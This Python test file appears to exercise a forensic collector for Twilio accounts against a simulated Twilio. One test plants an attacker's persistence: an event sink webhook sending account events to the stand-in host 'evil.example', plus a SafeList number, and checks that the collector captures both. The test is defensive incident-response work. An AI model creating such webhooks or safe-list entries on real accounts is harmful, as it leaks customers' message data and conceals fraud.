"""The collector against a Twilio that was written from the same papers by somebody else."""

from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from dakkan.collect.collector import collect
from dakkan.collect.safe_list import listed
from dakkan.evidence.configuration import KINDS
from dakkan.evidence.schema import TABLES
from dakkan.evidence.store import Evidence
from dakkan.model.window import Window
from dakkan.simulator.account import Account
from dakkan.simulator.app import simulate
from dakkan.simulator.traffic import Message
from dakkan.simulator.transport import InProcess
from dakkan.simulator.world import World
from dakkan.twilio.client import Twilio
from dakkan.twilio.credential import Credential, Secret


@pytest.fixture
def world() -> World:
    world = World()
    main = world.add_account("Shop", at=world.now - timedelta(days=100))
    world.add_account("Tenant", main)
    for account in world.accounts.values():
        past = [sent(world, account, minutes) for minutes in range(2400, 0, -1)]
        account.messages.add_past(past)
    return world


def sent(world: World, account: Account, minutes: int) -> Message:
    at = world.now - timedelta(minutes=minutes)
    to, body = f"+8190{minutes:08d}", f"Your code is {minutes}"
    return Message(
        world.serial(), world.sid("SM"), account.sid, "outbound-api", "delivered", "+15005550006", to, body,
        at, at, at, "shop", Decimal("0.07"),
    )  # fmt: skip


def scheduled(world: World, account: Account) -> Message:
    at = world.now - timedelta(days=1)
    return Message(
        world.serial(), world.sid("SM"), account.sid, "outbound-api", "scheduled", None, "+819000000000",
        "later", at, None, at, "thief", due_at=world.now + timedelta(days=1),
    )  # fmt: skip


def test_all_messages_of_the_tree_come_also_those_that_wait(world: World, tmp_path: Path) -> None:
    tenant = world.children(world.main)[0]
    waits = scheduled(world, tenant)
    tenant.messages.add(waits)
    twilio = Twilio(InProcess(simulate(world)), clock=lambda: world.now, sleep=lambda _: None)
    credential = Credential.token(world.main.sid, Secret(world.main.auth_token))
    evidence = Evidence(tmp_path, clock=lambda: world.now)

    found = collect(twilio, credential, evidence, Window(world.now - timedelta(days=7), world.now))

    assert not [gap for gap in found.gaps if {"messages", "events", "keys"} & set(gap.what.split())]
    with evidence.tables() as tables:
        assert tables.accounts.count().execute() == 2
        assert tables.messages.count().execute() == 2 * 2400 + 1
        assert tables.messages.filter(tables.messages.sent_at.isnull()).sid.to_pyarrow().to_pylist() == [
            waits.sid
        ]
        assert set(tables.messages.country.to_pyarrow().to_pylist()) == {"JP"}
    assert evidence.check() == []


def test_all_configuration_can_be_read_and_what_a_thief_left_is_there(world: World, tmp_path: Path) -> None:
    twilio = Twilio(InProcess(simulate(world)), clock=lambda: world.now, sleep=lambda _: None)
    credential = Credential.token(world.main.sid, Secret(world.main.auth_token))
    sink = {
        "Description": "copy",
        "SinkType": "webhook",
        "SinkConfiguration": '{"destination": "https://evil.example/x", "method": "POST"}',
    }
    twilio.send("POST", credential, "https://events.twilio.com/v1/Sinks", form=sink)
    number = "+37120000001"
    twilio.send(
        "POST", credential, "https://accounts.twilio.com/v1/SafeList/Numbers", form={"PhoneNumber": number}
    )
    evidence = Evidence(tmp_path, clock=lambda: world.now)

    found = collect(twilio, credential, evidence, Window(world.now - timedelta(days=7), world.now))

    assert not [gap for gap in found.gaps if set(KINDS) & set(gap.what.replace(",", "").split())]
    assert evidence.collected_tables() == set(TABLES) - {"safe_list"}
    with evidence.tables() as tables:
        (row,) = tables["event_sinks"].to_pyarrow().to_pylist()
    assert row["account_sid"] == world.main.sid
    assert "evil.example" in row["fields"]
    rows = listed(twilio, credential, world.main.sid, [number, "+37120000002"]).to_pylist()
    assert [(row["sid"][:2], row["name"]) for row in rows] == [("GN", number)]
